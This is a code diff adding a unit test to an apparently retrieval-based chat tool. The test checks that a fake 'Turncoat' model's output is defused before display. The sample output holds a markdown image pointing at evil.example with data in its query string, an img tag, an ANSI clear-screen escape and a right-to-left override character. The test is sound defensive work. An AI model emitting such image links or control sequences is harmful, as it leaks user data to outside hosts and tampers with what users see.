@@ -251,6 +251,21 @@ def test_a_model_of_ones_own_needs_no_server(folder: Path) -> None:
     assert parrot.heard[-1].role == "user"
 
 
+def test_what_a_model_writes_is_neither_link_nor_image_nor_tag(folder: Path) -> None:
+    class Turncoat:
+        name = "turncoat"
+
+        def chat(self, messages: list[Message]) -> Iterator[Event]:
+            yield from "28 days [1] ![x](https://evil.example/?q=28)<img src=x>\x1b[2J\u202e"
+
+    with base(folder, NOBODY) as kb:
+        stream = kb.stream(QUESTION, model=Turncoat())
+        shown = "".join(stream)
+    assert shown == "28 days [1] ! [x] (https: //evil.example/?q=28)< img src=x>[2J"
+    assert shown == stream.answer.text
+    assert [citation.number for citation in stream.answer.citations] == [1]
+
+
 def test_what_does_not_fit_the_context_is_dropped_whole_and_counted(tmp_path: Path) -> None:
     docs = tmp_path / "docs"
     docs.mkdir()
